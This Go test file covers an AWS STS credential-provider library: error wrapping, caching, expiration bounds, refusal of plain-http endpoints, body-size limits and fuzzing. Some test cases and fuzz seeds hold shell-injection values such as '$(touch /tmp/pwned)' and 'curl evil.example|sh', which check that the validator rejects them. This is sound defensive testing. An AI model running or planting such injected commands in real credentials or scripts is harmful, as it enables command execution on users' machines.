package stschain

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	awshttp "github.com/aws/aws-sdk-go-v2/aws/transport/http"
	"github.com/aws/aws-sdk-go-v2/service/sts"
	"github.com/aws/aws-sdk-go-v2/service/sts/types"
	"github.com/aws/smithy-go"
	smithyendpoints "github.com/aws/smithy-go/endpoints"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/stschain/stschain/internal/credcheck"
	"github.com/stschain/stschain/internal/httpguard"
)

func TestFailedCallNamesLinkAndIsNotCached(t *testing.T) {
	for _, tc := range []struct {
		name string
		role string
		op   string
	}{
		{"AssumeRole", roleA, "AssumeRole"},
		{"GetSessionToken", "", "GetSessionToken"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFakeSTS("A", time.Hour)
			f.failNext(apiError("AccessDenied", "not authorized"))
			p := newFake(t, f, staticMaster("alice"), withRole(tc.role))

			_, err := p.Retrieve(context.Background())
			require.Error(t, err)
			link := tc.role
			if link == "" {
				link = GetSessionTokenLink
			}
			assert.Contains(t, err.Error(), link)
			assert.Contains(t, err.Error(), tc.op)
			assert.True(t, strings.HasPrefix(err.Error(), "stschain: "), err.Error())
			var ae smithy.APIError
			require.ErrorAs(t, err, &ae)
			assert.Equal(t, "AccessDenied", ae.ErrorCode())

			c, err := p.Retrieve(context.Background())
			require.NoError(t, err, "the next Retrieve tries again")
			assert.Equal(t, issuedKey("A", 2), c.AccessKeyID)
		})
	}
}

func TestReturnedCredentialsDescribeThemselves(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		f := newFakeSTS("A", time.Hour)
		role := newFake(t, f, staticMaster("alice"), withRole(roleA))
		c, err := role.Retrieve(context.Background())
		require.NoError(t, err)
		assert.True(t, c.CanExpire)
		assert.Equal(t, time.Now().Add(time.Hour), c.Expires)
		assert.Equal(t, ProviderName, c.Source)
		assert.Equal(t, "123456789012", c.AccountID)

		gst := newFake(t, newFakeSTS("S", time.Hour), staticMaster("alice"))
		c, err = gst.Retrieve(context.Background())
		require.NoError(t, err)
		assert.True(t, c.CanExpire)
		assert.Equal(t, ProviderName, c.Source)
		assert.Empty(t, c.AccountID, "GetSessionToken does not tell the account")
	})
}

var errBoom = errors.New("boom")

func TestAssumeRoleSendsEveryOptionSet(t *testing.T) {
	var got *sts.AssumeRoleInput
	f := newFakeSTS("A", time.Hour)
	f.inspect = func(in any) { got = in.(*sts.AssumeRoleInput) }
	codes := 0
	p := newFake(t, f, staticMaster("alice"), func(o *Options) {
		*o = Options{
			RoleARN: roleA, RoleSessionName: "deploy", Duration: 2 * time.Hour, ExternalID: "ext-1",
			Policy: `{"Version":"2012-10-17"}`, PolicyARNs: []string{"arn:aws:iam::aws:policy/ReadOnlyAccess"},
			Tags: map[string]string{"team": "core", "env": "prod"}, TransitiveTagKeys: []string{"team"},
			SourceIdentity: "alice", SerialNumber: deviceOf(t),
			TokenCode: func(_ context.Context, serial string) (string, error) {
				codes++
				return fmt.Sprintf("%06d", codes), nil
			},
			Client: f, MasterCredentials: staticMaster("alice"),
		}
	})
	_, err := p.Retrieve(context.Background())
	require.NoError(t, err)
	want := &sts.AssumeRoleInput{
		RoleArn: aws.String(roleA), RoleSessionName: aws.String("deploy"), DurationSeconds: aws.Int32(7200),
		ExternalId: aws.String("ext-1"), Policy: aws.String(`{"Version":"2012-10-17"}`),
		PolicyArns:        []types.PolicyDescriptorType{{Arn: aws.String("arn:aws:iam::aws:policy/ReadOnlyAccess")}},
		Tags:              []types.Tag{{Key: aws.String("env"), Value: aws.String("prod")}, {Key: aws.String("team"), Value: aws.String("core")}},
		TransitiveTagKeys: []string{"team"}, SourceIdentity: aws.String("alice"),
		SerialNumber: aws.String(deviceOf(t)), TokenCode: aws.String("000001"),
	}
	assert.Equal(t, want, got)
}

func TestMinimalInputs(t *testing.T) {
	t.Run("AssumeRole generates a valid session name and leaves the duration to STS", func(t *testing.T) {
		f := newFakeSTS("A", time.Hour)
		var got *sts.AssumeRoleInput
		f.inspect = func(in any) { got = in.(*sts.AssumeRoleInput) }
		_, err := newFake(t, f, staticMaster("alice"), withRole(roleA)).Retrieve(context.Background())
		require.NoError(t, err)
		assert.Regexp(t, `^[\w+=,.@-]{2,64}$`, aws.ToString(got.RoleSessionName))
		assert.Nil(t, got.DurationSeconds)
		assert.Nil(t, got.SerialNumber)
		assert.Nil(t, got.TokenCode)
		assert.Nil(t, got.ExternalId)
	})
	t.Run("GetSessionToken sends Duration, SerialNumber and TokenCode only", func(t *testing.T) {
		f := newFakeSTS("S", time.Hour)
		var got *sts.GetSessionTokenInput
		f.inspect = func(in any) { got = in.(*sts.GetSessionTokenInput) }
		_, err := newFake(t, f, staticMaster("alice"), func(o *Options) {
			o.Duration = 36 * time.Hour
			o.SerialNumber = deviceOf(t)
			o.TokenCode = fixedCode
		}).Retrieve(context.Background())
		require.NoError(t, err)
		assert.Equal(t, &sts.GetSessionTokenInput{
			DurationSeconds: aws.Int32(36 * 3600), SerialNumber: aws.String(deviceOf(t)), TokenCode: aws.String("123456"),
		}, got)
	})
}

// An STS answer that lacks a part, or expires at once, is an error that
// says what was missing, and nothing of it is kept or cached.
func TestMalformedAnswersAreErrors(t *testing.T) {
	for _, tc := range []struct {
		name   string
		mangle func(*types.Credentials) *types.Credentials
		want   string
	}{
		{"no credentials", func(*types.Credentials) *types.Credentials { return nil }, "no Credentials"},
		{"empty access key", func(c *types.Credentials) *types.Credentials { c.AccessKeyId = aws.String(""); return c }, "Credentials has no AccessKeyId"},
		{"no secret key", func(c *types.Credentials) *types.Credentials { c.SecretAccessKey = nil; return c }, "Credentials has no SecretAccessKey"},
		{"no session token", func(c *types.Credentials) *types.Credentials { c.SessionToken = aws.String(""); return c }, "Credentials has no SessionToken"},
		{"no expiration", func(c *types.Credentials) *types.Credentials { c.Expiration = nil; return c }, "Credentials has no Expiration"},
		{"zero expiration", func(c *types.Credentials) *types.Credentials { c.Expiration = &time.Time{}; return c }, "Credentials has no Expiration"},
		{"past expiration", func(c *types.Credentials) *types.Credentials {
			c.Expiration = aws.Time(time.Now().Add(-time.Minute))
			return c
		}, "expired at"},
		{"all of it", func(c *types.Credentials) *types.Credentials { return &types.Credentials{} }, "Credentials has no AccessKeyId, SecretAccessKey, SessionToken, Expiration"},
		// Values a shell would run if an export line printed them.
		{"command in the access key", func(c *types.Credentials) *types.Credentials {
			c.AccessKeyId = aws.String("ASIA$(touch /tmp/pwned)")
			return c
		}, "Credentials.AccessKeyId is not an AWS access key ID (16 to 128 upper-case letters and digits)"},
		{"short access key", func(c *types.Credentials) *types.Credentials { c.AccessKeyId = aws.String("ASIA1"); return c }, "Credentials.AccessKeyId is not"},
		{"newline in the secret", func(c *types.Credentials) *types.Credentials {
			c.SecretAccessKey = aws.String("abc\nexport AWS_PROFILE=evil")
			return c
		}, "Credentials.SecretAccessKey is not made of the base64 alphabet (A-Z, a-z, 0-9, +, / and =)"},
		{"semicolon in the token", func(c *types.Credentials) *types.Credentials {
			c.SessionToken = aws.String("abc;curl evil.example|sh")
			return c
		}, "Credentials.SessionToken is not made of the base64 alphabet"},
		{"expiration in 2099", func(c *types.Credentials) *types.Credentials {
			c.Expiration = aws.Time(time.Date(2099, 1, 1, 0, 0, 0, 0, time.UTC))
			return c
		}, "the credentials expire at 2099-01-01T00:00:00Z"},
	} {
		for _, role := range []string{roleA, ""} {
			t.Run(tc.name+"/"+linkName(role), func(t *testing.T) {
				cache := newMemCache()
				f := newFakeSTS("A", time.Hour)
				f.mangle = tc.mangle
				p := newFake(t, f, staticMaster("alice"), withRole(role), withCache(cache))
				_, err := p.Retrieve(context.Background())
				require.ErrorIs(t, err, ErrMalformedResponse)
				assert.ErrorContains(t, err, tc.want)
				for _, v := range []string{"touch", "export", "curl"} {
					assert.NotContains(t, err.Error(), v, "the error quotes no value")
				}
				assert.ErrorContains(t, err, "stschain: "+linkName(role)+": ")
				assert.Empty(t, cache.stores, "nothing is cached")
				f.mangle = nil
				c, err := p.Retrieve(context.Background())
				require.NoError(t, err, "nothing was kept: the next Retrieve calls STS")
				assert.True(t, c.HasKeys())
				assert.Equal(t, 2, f.count())
			})
		}
	}
}

// An answer's Expiration may lie no further ahead than the longest
// session STS grants the call (12 hours for AssumeRole, 36 for
// GetSessionToken) and five minutes for clocks that disagree.
func TestAnswerExpirationBound(t *testing.T) {
	for _, tc := range []struct {
		role     string
		lifetime time.Duration
		ok       bool
	}{
		{roleA, 12*time.Hour + clockSkew, true},
		{roleA, 12*time.Hour + clockSkew + time.Second, false},
		{"", 36*time.Hour + clockSkew, true},
		{"", 36*time.Hour + clockSkew + time.Second, false},
	} {
		t.Run(fmt.Sprintf("%s/%v", linkName(tc.role), tc.lifetime), func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				f := newFakeSTS("A", tc.lifetime)
				_, err := newFake(t, f, staticMaster("alice"), withRole(tc.role)).Retrieve(context.Background())
				if tc.ok {
					assert.NoError(t, err)
					return
				}
				require.ErrorIs(t, err, ErrMalformedResponse)
				assert.ErrorContains(t, err, "but STS grants sessions of")
			})
		})
	}
}

// roundTripFunc is an http.RoundTripper that answers in the calling
// goroutine, so that an SDK client using it works in a synctest bubble.
type roundTripFunc func(*http.Request) (*http.Response, error)

func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

// answering returns a config whose STS client gets answer's response to
// every request, through the SDK's own deserializer, with one attempt.
func answering(answer roundTripFunc) aws.Config {
	return aws.Config{
		Region:           "us-east-1",
		BaseEndpoint:     aws.String("https://sts.answers.invalid"),
		HTTPClient:       &http.Client{Transport: answer},
		Credentials:      staticMaster("alice"),
		RetryMaxAttempts: 1,
	}
}

// xmlAnswer is an HTTP response with body and an STS answer's headers.
func xmlAnswer(r *http.Request, status int, date time.Time, body io.Reader) *http.Response {
	h := http.Header{"Content-Type": {"text/xml"}, "X-Amzn-Requestid": {"r"}}
	if !date.IsZero() {
		h.Set("Date", date.UTC().Format(http.TimeFormat))
	}
	return &http.Response{StatusCode: status, Header: h, Body: io.NopCloser(body), Request: r, ContentLength: -1}
}

// assumeRoleXML is an AssumeRole answer of role session s of role A.
func assumeRoleXML(keyID, secret, token string, expires time.Time) string {
	return fmt.Sprintf(`<AssumeRoleResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><AssumeRoleResult>
<Credentials><AccessKeyId>%s</AccessKeyId><SecretAccessKey>%s</SecretAccessKey><SessionToken>%s</SessionToken><Expiration>%s</Expiration></Credentials>
<AssumedRoleUser><Arn>arn:aws:sts::123456789012:assumed-role/A/s</Arn><AssumedRoleId>AROA:s</AssumedRoleId></AssumedRoleUser>
</AssumeRoleResult><ResponseMetadata><RequestId>r</RequestId></ResponseMetadata></AssumeRoleResponse>`,
		keyID, secret, token, expires.UTC().Format(time.RFC3339))
}

// A host clock behind or ahead of STS's sees a session end later or
// earlier than STS does: the Expiration is judged from the answer's Date,
// when that is a session away at most, so that a 12-hour session is taken
// whatever the host's clock, a longer one is not, and an answer dated far
// ahead cannot make a session last for ever.
func TestAnswerExpirationCountsFromTheAnswersDate(t *testing.T) {
	for _, tc := range []struct {
		name          string
		date, expires time.Duration // from now
		ok            bool
	}{
		{"host clock 10 minutes behind", 10 * time.Minute, 10*time.Minute + 12*time.Hour, true},
		{"host clock 10 minutes behind, a longer session", 10 * time.Minute, 10*time.Minute + 12*time.Hour + clockSkew + time.Second, false},
		{"host clock 10 minutes ahead", -10 * time.Minute, -10*time.Minute + 12*time.Hour, true},
		{"host clock 10 minutes ahead, a longer session", -10 * time.Minute, 12 * time.Hour, false},
		{"host clock 2 hours ahead, an hour's session", -2 * time.Hour, -time.Hour, true},
		{"dated far ahead", 70 * 365 * 24 * time.Hour, 70*365*24*time.Hour + time.Hour, false},
		{"no Date", 0, 12*time.Hour + clockSkew + time.Second, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				now := time.Now()
				cfg := answering(func(r *http.Request) (*http.Response, error) {
					var date time.Time
					if tc.date != 0 {
						date = now.Add(tc.date)
					}
					body := assumeRoleXML("ASIASERVER000001", "secret", "token", now.Add(tc.expires))
					return xmlAnswer(r, http.StatusOK, date, strings.NewReader(body)), nil
				})
				p, err := New(cfg, withRole(roleA))
				require.NoError(t, err)
				_, err = p.Retrieve(context.Background())
				if tc.ok {
					assert.NoError(t, err)
					return
				}
				assert.ErrorIs(t, err, ErrMalformedResponse)
			})
		})
	}
}

// An endpoint over plain http to a host that is not loopback would send
// MFA codes, external IDs and the new keys in clear: New and NewPool
// refuse it, naming the setting, and allow loopback ones.
func TestNewRefusesPlainHTTPEndpoints(t *testing.T) {
	for _, tc := range []struct {
		name    string
		cfg     func(*aws.Config)
		sts     func(*sts.Options)
		refusal string // "" when allowed
	}{
		{"cfg.BaseEndpoint", func(c *aws.Config) { c.BaseEndpoint = aws.String("http://sts.amazonaws.com") }, nil,
			"cfg.BaseEndpoint http://sts.amazonaws.com uses plain http to a host that is not this one"},
		{"STSOptions", nil, func(o *sts.Options) { o.BaseEndpoint = aws.String("http://sts.example.com:8080/") },
			"the STS client's BaseEndpoint (from STSOptions, AWS_ENDPOINT_URL_STS or the shared config's services section) http://sts.example.com:8080 uses plain http"},
		{"loopback", func(c *aws.Config) { c.BaseEndpoint = aws.String("http://127.0.0.1:4566") }, nil, ""},
		{"localhost", nil, func(o *sts.Options) { o.BaseEndpoint = aws.String("http://localhost:4566") }, ""},
		{"https", func(c *aws.Config) { c.BaseEndpoint = aws.String("https://sts.example.com") }, nil, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg := aws.Config{Credentials: staticMaster("alice")}
			if tc.cfg != nil {
				tc.cfg(&cfg)
			}
			opts := func(o *Options) {
				if tc.sts != nil {
					o.STSOptions = append(o.STSOptions, tc.sts)
				}
			}
			_, errNew := New(cfg, withRole(roleA), opts)
			_, errPool := NewPool(cfg, func(po *PoolOptions) { po.Options = append(po.Options, opts) })
			for _, err := range []error{errNew, errPool} {
				if tc.refusal == "" {
					assert.NoError(t, err)
					continue
				}
				assert.ErrorIs(t, err, ErrInvalidOptions)
				assert.ErrorContains(t, err, "stschain: invalid options: "+tc.refusal)
			}
		})
	}
}

// An endpoint that only a resolver produces, or that the SDK's
// DisableHTTPS rewrites, is refused at the request, before anything is
// sent.
func TestResolvedPlainHTTPEndpointsAreRefused(t *testing.T) {
	for _, tc := range []struct {
		name string
		sts  func(*sts.Options)
		host string
	}{
		{"EndpointResolverV2", func(o *sts.Options) { o.EndpointResolverV2 = plainResolver{} }, "http://sts.evil.example"},
		{"DisableHTTPS", func(o *sts.Options) { o.EndpointOptions.DisableHTTPS = true }, "http://sts.us-east-1.amazonaws.com"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var sent atomic.Int32
			cfg := aws.Config{Credentials: staticMaster("alice"), RetryMaxAttempts: 1,
				HTTPClient: &http.Client{Transport: roundTripFunc(func(*http.Request) (*http.Response, error) {
					sent.Add(1)
					return nil, errors.New("sent")
				})}}
			p, err := New(cfg, withRole(roleA), func(o *Options) { o.STSOptions = append(o.STSOptions, tc.sts) })
			require.NoError(t, err)
			_, err = p.Retrieve(context.Background())
			require.Error(t, err)
			assert.ErrorContains(t, err, "the resolved STS endpoint "+tc.host+" uses plain http to a host that is not this one")
			var ce *httpguard.CleartextError
			assert.ErrorAs(t, err, &ce)
			assert.Zero(t, sent.Load(), "nothing was sent")
		})
	}
}

type plainResolver struct{}

func (plainResolver) ResolveEndpoint(context.Context, sts.EndpointParameters) (smithyendpoints.Endpoint, error) {
	u, _ := url.Parse("http://sts.evil.example/")
	return smithyendpoints.Endpoint{URI: *u}, nil
}

// A hostile STS streaming a gigabyte gets no more than httpguard.MaxBody
// of it read, whatever its status: what is measured is the bytes the
// client read. Over loopback TCP the error may also be the SDK's own (it
// closes the request's body as soon as the answer starts, which can race
// with the transport's writing it and close the connection); in memory it
// is always the guard's, wrapping ErrMalformedResponse.
func TestHugeAnswersAreNotRead(t *testing.T) {
	for _, status := range []int{http.StatusOK, http.StatusBadRequest} {
		t.Run("loopback/"+strconv.Itoa(status), func(t *testing.T) {
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				_, _ = io.Copy(io.Discard, r.Body)
				w.Header().Set("Content-Type", "text/xml")
				w.WriteHeader(status)
				_, _ = io.Copy(w, hugeAnswer())
			}))
			defer srv.Close()
			var read atomic.Int64
			transport := srv.Client().Transport
			cfg := aws.Config{Credentials: staticMaster("alice"), BaseEndpoint: aws.String(srv.URL), RetryMaxAttempts: 1,
				HTTPClient: &http.Client{Transport: roundTripFunc(func(r *http.Request) (*http.Response, error) {
					resp, err := transport.RoundTrip(r)
					if err == nil {
						resp.Body = &countingBody{ReadCloser: resp.Body, n: &read}
					}
					return resp, err
				})}}
			p, err := New(cfg, withRole(roleA))
			require.NoError(t, err)
			_, err = p.Retrieve(context.Background())
			require.Error(t, err)
			assert.LessOrEqual(t, read.Load(), int64(httpguard.MaxBody+1), "the client read %d bytes", read.Load())
		})
		t.Run("in memory/"+strconv.Itoa(status), func(t *testing.T) {
			var read atomic.Int64
			cfg := answering(func(r *http.Request) (*http.Response, error) {
				return xmlAnswer(r, status, time.Time{}, &countingBody{ReadCloser: io.NopCloser(hugeAnswer()), n: &read}), nil
			})
			p, err := New(cfg, withRole(roleA))
			require.NoError(t, err)
			_, err = p.Retrieve(context.Background())
			assert.ErrorIs(t, err, httpguard.ErrBodyTooLarge)
			assert.ErrorIs(t, err, ErrMalformedResponse)
			assert.ErrorContains(t, err, "malformed STS response: operation error STS: AssumeRole")
			assert.LessOrEqual(t, read.Load(), int64(httpguard.MaxBody+1), "the client read %d bytes", read.Load())
		})
	}
}

// hugeAnswer is the start of an AssumeRole answer whose access key ID
// goes on for a gigabyte.
func hugeAnswer() io.Reader {
	return io.MultiReader(strings.NewReader(`<AssumeRoleResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><AssumeRoleResult><Credentials><AccessKeyId>`),
		io.LimitReader(repeatReader('A'), 1<<30))
}

// repeatReader reads as the byte c, for ever.
type repeatReader byte

func (c repeatReader) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(c)
	}
	return len(p), nil
}

type countingBody struct {
	io.ReadCloser
	n *atomic.Int64
}

func (b *countingBody) Read(p []byte) (int, error) {
	n, err := b.ReadCloser.Read(p)
	b.n.Add(int64(n))
	return n, err
}

// FuzzSTSAnswer feeds the STS client New builds arbitrary answers, with a
// success or an error status, through the SDK's own deserializer and the
// link's checks. Nothing may panic; what is accepted has the shapes STS
// issues and an expiry STS could grant; a refusal is the link's *Error,
// wrapping ErrMalformedResponse for a success, and an API error or the
// SDK's error naming the status for an error. The seeds are those added
// here and the corpus in testdata/fuzz/FuzzSTSAnswer.
func FuzzSTSAnswer(f *testing.F) {
	in := time.Now().Add(time.Hour)
	f.Add([]byte(assumeRoleXML("ASIASERVER000001", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "IQoJb3JpZ2luX2Vj+/=", in)), false)
	f.Add([]byte(assumeRoleXML("ASIA$(id)SERVER1", "secret", "token", in)), false)
	f.Add([]byte(assumeRoleXML("ASIASERVER000001", "secret&#10;export X=1", "token", in)), false)
	f.Add([]byte(assumeRoleXML("ASIASERVER000001", "secret", "token", time.Date(2099, 1, 1, 0, 0, 0, 0, time.UTC))), false)
	f.Add([]byte(`<AssumeRoleResponse><AssumeRoleResult><Credentials></Credentials></AssumeRoleResult></AssumeRoleResponse>`), false)
	f.Add([]byte(`<ErrorResponse><Error><Type>Sender</Type><Code>ExpiredToken</Code><Message>expired</Message></Error><RequestId>r</RequestId></ErrorResponse>`), true)
	f.Add([]byte(`<<<`), true)
	var (
		mu         sync.Mutex
		nextBody   []byte
		nextStatus int
	)
	client, err := guardedSTSClient(answering(func(r *http.Request) (*http.Response, error) {
		mu.Lock()
		defer mu.Unlock()
		return xmlAnswer(r, nextStatus, time.Time{}, bytes.NewReader(nextBody)), nil
	}), nil)
	require.NoError(f, err)
	params := linkParams{RoleARN: roleA, RoleSessionName: "fuzz"}
	f.Fuzz(func(t *testing.T, body []byte, failed bool) {
		mu.Lock()
		nextBody, nextStatus = body, http.StatusOK
		if failed {
			nextStatus = http.StatusBadRequest
		}
		mu.Unlock()
		creds, _, err := params.call(context.Background(), client, nil, nil, false)
		if err == nil {
			if err := credcheck.Check(creds.AccessKeyID, creds.SecretAccessKey, creds.SessionToken); err != nil {
				t.Fatalf("accepted credentials of another shape: %v", err)
			}
			if limit := time.Now().Add(12*time.Hour + clockSkew); !creds.Expires.After(time.Now().Add(-time.Minute)) || creds.Expires.After(limit) {
				t.Fatalf("accepted an expiry STS cannot grant: %v", creds.Expires)
			}
			return
		}
		var le *Error
		var api smithy.APIError
		var resp *awshttp.ResponseError
		switch {
		case !errors.As(err, &le) || le.Link != roleA || le.Op != OpAssumeRole:
			t.Fatalf("not the link's error: %v", err)
		case errors.Is(err, ErrMalformedResponse):
		case !failed:
			t.Fatalf("a success that is refused without ErrMalformedResponse: %v", err)
		case errors.As(err, &api), errors.As(err, &resp) && resp.HTTPStatusCode() == http.StatusBadRequest:
		default:
			t.Fatalf("an error of another kind: %v", err)
		}
	})
}
